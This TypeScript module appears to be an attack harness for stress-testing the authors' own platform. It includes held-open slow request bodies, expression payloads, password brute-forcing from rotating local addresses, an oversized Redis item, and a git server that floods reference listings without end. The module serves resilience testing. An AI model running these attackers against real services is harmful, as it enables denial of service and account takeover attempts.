import { once } from 'node:events';
import { Agent, createServer, request, type ServerResponse } from 'node:http';
import { connect, type AddressInfo, type Socket } from 'node:net';
import { Redis } from 'ioredis';
import { expressionAttacks } from './expression-attacks.ts';

/** The attacks, by the name that figures have. */
export const attackNames = ['bodies', 'expressions', 'redis', 'git', 'logins'] as const;

export type AttackName = (typeof attackNames)[number];

/** A route of the platform that an attacker calls. */
export interface Victim {
  host: string;
  path: string;
  headers?: Record<string, string>;
}

/** Where an attacker finds the platform, and where the platform finds a server of the attacker. */
export interface Places {
  ingress: string;
  /** The address at which pods reach this machine. */
  host: string;
}

/** One attack, which can begin and end several times. */
interface Attacker {
  /** The port of the attacker's own server, if the attack has one. */
  port?: number;
  begin(victims: readonly Victim[]): void | Promise<void>;
  end(): void | Promise<void>;
  stop?(): void;
}

/** What an attacker did: requests sent or served, and answers by status. */
export interface Counts {
  requests: number;
  answers: Record<string, number>;
}

const mebibyte = 2 ** 20;
const intervalMs = 20;
/** 1 Gbit/s. */
const networkBytesPerSecond = 125_000_000;
const chunkBytes = 16 * 1024;

/** Calls `act` this often until the returned function is called. */
function pace(perSecond: number, act: () => void): () => void {
  const startedAt = performance.now();
  let done = 0;
  const timer = setInterval(() => {
    const due = ((performance.now() - startedAt) / 1000) * perSecond;
    for (; done < due; done++) act();
  }, intervalMs);
  return () => clearInterval(timer);
}

/** Creates the attackers of one process, which count together. */
export function createAttackers({ ingress, host }: Places, counts: Counts) {
  const { hostname, port } = new URL(ingress);
  const count = (answer: string | number) => (counts.answers[answer] = (counts.answers[answer] ?? 0) + 1);
  const agent = new Agent({ keepAlive: true, maxSockets: 100 });
  const perAddress = new Agent({ keepAlive: true, maxSockets: 2 });
  let inProgress = 0;

  /** Sends a request, unless many are in progress already. */
  const post = ({ host: name, path, headers }: Victim, body: string, localAddress?: string) => {
    if (inProgress >= 400) return;
    inProgress++;
    counts.requests++;
    const call = request({
      host: hostname,
      port,
      path,
      method: 'POST',
      agent: localAddress === undefined ? agent : perAddress,
      ...(localAddress !== undefined && { localAddress }),
      headers: {
        host: name,
        'content-type': 'application/json',
        'content-length': Buffer.byteLength(body),
        ...headers,
      },
    });
    call.once('response', (response) => {
      count(response.statusCode ?? 0);
      response.resume();
    });
    call.once('error', () => count('error'));
    call.once('close', () => inProgress--);
    call.end(body);
  };

  /**
   * Holds 700 bodies of 1 MB open that lack their last byte, and replaces those that the platform closes. All heads are
   * sent at once; the bodies share 1 Gbit/s, as behind a network, and their bytes come in turns. Without that limit, what
   * is measured is the copying of 700 MB into this machine's own socket buffers, which the kernel does not interrupt.
   */
  const bodies = (): Attacker => {
    const held = new Set<Socket>();
    /** Sockets whose body is not sent yet, with the bytes that remain. */
    const sending = new Map<Socket, number>();
    const chunk = Buffer.alloc(chunkBytes, ' ');
    const stops: (() => void)[] = [];
    const open = ({ host: name, path }: Victim) => {
      if (held.size >= 700) return;
      counts.requests++;
      const head = `POST ${path} HTTP/1.1\r\nHost: ${name}\r\nContent-Type: application/json\r\nContent-Length: ${mebibyte}`;
      const socket = connect(Number(port), hostname);
      held.add(socket);
      socket.once('data', (answer: Buffer) => count(answer.toString('latin1', 9, 12)));
      socket.on('error', () => undefined);
      socket.once('close', () => {
        // Those that the attack ends itself count as `held`.
        if (socket.bytesRead === 0 && stops.length > 0) count('closed');
        held.delete(socket);
        sending.delete(socket);
      });
      socket.write(`${head}\r\n\r\n`);
      sending.set(socket, mebibyte - 1);
    };
    const sendNext = () => {
      const [next] = sending;
      if (!next) return;
      const [socket, remaining] = next;
      sending.delete(socket);
      if (socket.writableNeedDrain) {
        sending.set(socket, remaining);
        return;
      }
      socket.write(remaining < chunkBytes ? chunk.subarray(0, remaining) : chunk);
      if (remaining > chunkBytes) sending.set(socket, remaining - chunkBytes);
    };
    return {
      begin([victim]) {
        if (!victim) throw new Error('no victim');
        for (let index = 0; index < 700; index++) open(victim);
        stops.push(
          pace(50, () => open(victim)),
          pace(networkBytesPerSecond / chunkBytes, sendNext),
        );
      },
      end() {
        for (const stop of stops.splice(0)) stop();
        for (const socket of held) {
          if (socket.bytesRead === 0) count('held');
          socket.destroy();
        }
      },
    };
  };

  const expressions = (): Attacker => {
    let stop: (() => void) | undefined;
    let next = 0;
    const texts = expressionAttacks(256 * 1024);
    return {
      begin(victims) {
        stop = pace(20, () => {
          const [victim, attack] = [victims[next % victims.length], texts[next % texts.length]];
          next++;
          if (victim && attack) post({ ...victim, headers: { ...victim.headers, ...attack.headers } }, attack.body);
        });
      },
      end: () => stop?.(),
    };
  };

  /** Wrong passwords for many accounts from many addresses: 10,000 in all. */
  const logins = (): Attacker => {
    let stop: (() => void) | undefined;
    let number = 0;
    return {
      begin([victim]) {
        // 10,000 in the 90 seconds of attack of a full run, so that no round is without them.
        stop = pace(110, () => {
          if (!victim) return;
          number++;
          const body = JSON.stringify({ email: `user${number % 500}@svc.local`, password: `wrong ${number}` });
          post(victim, body, `127.1.${number % 4}.${1 + (number % 250)}`);
        });
      },
      end: () => stop?.(),
    };
  };

  /**
   * An item in the list of event sources while the attack lasts. It is larger than the platform takes in one answer
   * (24 MiB), and no larger than the memory of a managed Redis permits.
   */
  const redis = (): Attacker => {
    const item = 'x'.repeat(32 * mebibyte);
    let client: Redis | undefined;
    return {
      async begin([victim]) {
        if (!victim) throw new Error('no victim');
        const { hostname: address, port: own } = new URL(`redis://${victim.host}`);
        client ??= new Redis(Number(own), address, { password: victim.headers?.['password'] ?? '' });
        client.on('error', () => count('error'));
        counts.requests++;
        await client.rpush(redisList, item).catch(() => count('refused'));
      },
      async end() {
        if (!client) return;
        const output = /total_net_output_bytes:(\d+)/.exec(await client.info('stats'))?.[1];
        counts.answers['MiB read'] = Math.round(Number(output) / mebibyte);
        await client.del(redisList);
      },
      stop: () => client?.disconnect(),
    };
  };

  /** A git server that lists references without end while the attack lasts, and calls that poll it. */
  const git = async (): Promise<Attacker> => {
    const reference = (index: number) => {
      const line = `${index.toString(16).padStart(40, '0')} refs/heads/${String(index).padStart(8, '0')}\n`;
      return `${(line.length + 4).toString(16).padStart(4, '0')}${line}`;
    };
    const part = Buffer.from(Array.from({ length: 10_000 }, (_, index) => reference(index)).join(''));
    let attacking = false;
    let stop: (() => void) | undefined;
    let next = 0;
    const flood = (response: ServerResponse) => {
      if (!attacking) response.destroy();
      if (response.destroyed) return;
      response.write(part, () => setTimeout(flood, intervalMs, response));
    };
    const server = createServer((_request, response) => {
      if (!attacking) {
        response.writeHead(404).end();
        return;
      }
      count('listings');
      response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' });
      response.write('001e# service=git-upload-pack\n0000');
      flood(response);
    });
    server.listen(0, host);
    await once(server, 'listening');
    return {
      port: (server.address() as AddressInfo).port,
      begin(victims) {
        attacking = true;
        stop = pace(2, () => {
          const victim = victims[next++ % victims.length];
          if (victim) post(victim, '');
        });
      },
      end() {
        attacking = false;
        stop?.();
      },
    };
  };

  return { bodies, expressions, redis, git, logins } satisfies Record<AttackName, () => Attacker | Promise<Attacker>>;
}

/** The list that the event sources read. */
export const redisList = 'jobs';
